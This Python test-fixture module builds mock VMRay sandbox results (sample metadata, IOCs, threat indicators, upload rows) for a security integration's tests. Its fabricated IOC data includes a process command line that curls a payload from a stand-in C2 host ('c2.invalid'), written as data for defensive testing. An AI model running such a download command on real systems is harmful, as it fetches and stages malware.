"""JSON results as the actions return them, with the fields and special cases of VMRay's own objects."""

from __future__ import annotations

import json
from typing import Any

Json = dict[str, Any]

SHA256 = "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03"
SHA1 = "f572d396fae9206628714fb2ce00f72e94f2258f"
MD5 = "b1946ac92492d2347c6235b4d2611184"


def as_platform_gets_it(result: object) -> str:
    """Return the JSON text of a result; every character that could end a script element is escaped."""
    text = json.dumps(result)
    for character in "<>&\u2028\u2029":
        text = text.replace(character, f"\\u{ord(character):04x}")
    return text


def sample(**changes: object) -> Json:
    """Return a malicious program as VMRay describes a sample."""
    return {
        "sample_child_sample_ids": [],
        "sample_classifications": ["Dropper", "Spyware"],
        "sample_created": "2026-03-05T07:29:05",
        "sample_filename": "invoice.exe",
        "sample_filesize": 14848,
        "sample_id": 12,
        "sample_md5hash": MD5,
        "sample_sha1hash": SHA1,
        "sample_sha256hash": SHA256,
        "sample_threat_names": ["Gen.Loader", "C2/Generic-A"],
        "sample_type": "Windows Exe (x86-32)",
        "sample_url": None,
        "sample_verdict": "malicious",
        "sample_verdict_reason_description": None,
        "sample_vti_score": 100,
        "sample_webif_url": "https://vmray.example/samples/12",
        **changes,
    }


def iocs() -> Json:
    """Return at least one IOC of each type."""
    return {
        "domains": [{"domain": "c2.invalid", "verdict": "suspicious", "countries": ["Germany"]}],
        "emails": [
            {
                "sender": "eve@mail.invalid",
                "subject": "Your invoice",
                "recipients": ["bob@corp.invalid"],
                "verdict": "malicious",
                "hashes": [{"md5_hash": MD5, "sha1_hash": SHA1, "sha256_hash": SHA256}],
            }
        ],
        "files": [
            {
                "filename": "C:\\Users\\eve\\upd.exe",
                "filenames": ["C:\\Users\\eve\\upd.exe"],
                "hashes": [{"imp_hash": None, "md5_hash": MD5, "sha1_hash": SHA1, "sha256_hash": SHA256}],
                "operations": ["Access", "Create"],
                "categories": ["Dropped File"],
                "verdict": "malicious",
            },
            {"filename": None, "filenames": [], "hashes": [{"sha256_hash": SHA256}], "verdict": None},
        ],
        "ips": [
            {"ip_address": "198.51.100.7", "country": "Germany", "verdict": "malicious"},
            {"ip_address": "2001:db8::7", "verdict": "clean"},
        ],
        "mutexes": [{"mutex_name": "Global\\M1", "operations": ["access"], "verdict": "suspicious"}],
        "processes": [
            {
                "cmd_line": "cmd.exe /c curl http://c2.invalid/x.bin",
                "process_names": ["cmd.exe"],
                "verdict": "malicious",
            }
        ],
        "registry": [
            {"reg_key_name": "HKEY_USERS\\S-1\\Run\\x", "operations": ["write"], "verdict": "clean"}
        ],
        "urls": [
            {"url": "https://c2.invalid:8443/a.b?q=1.2", "verdict": "malicious", "categories": ["Contacted"]}
        ],
    }


def indicators() -> list[Json]:
    """Return unsorted threat indicators, including a mitigating one and one without a score."""
    return [
        {"category": "Mutex", "operation": "Creates mutex", "score": 1, "classifications": []},
        {"category": "Antivirus", "operation": "Known malware", "score": 5, "classifications": ["Virus"]},
        {
            "category": "Reputation",
            "operation": "Signed by a known vendor",
            "score": -1,
            "classifications": [],
        },
        {"category": "Heuristics", "operation": "Odd metadata", "score": 3, "classifications": []},
        {"category": "Old", "operation": "From an old server"},
    ]


def report(**changes: object) -> Json:
    """Return the `EntityResult` of one entity."""
    return {**sample(**changes), "iocs": iocs(), "threat_indicators": indicators()}


def scan(*entities: tuple[str, object]) -> list[Json]:
    """Return the JSON result of Scan Hash and Scan URL."""
    return [{"Entity": name, "EntityResult": result} for name, result in entities]


def uploaded(*rows: Json) -> Json:
    """Return the JSON result of Upload File And Get Report."""
    return {"data": rows[0].get("data") if rows else None, "result": "ok", "files": list(rows)}


def file_row(path: str, result: str = "ok", **changes: object) -> Json:
    """Return the row of one file of an upload."""
    done = result == "ok"
    return {
        "file_path": path,
        "submission_id": 6230,
        "verdict": "malicious" if done else None,
        "result": result,
        "error": None,
        "data": sample() if done else None,
        **changes,
    }
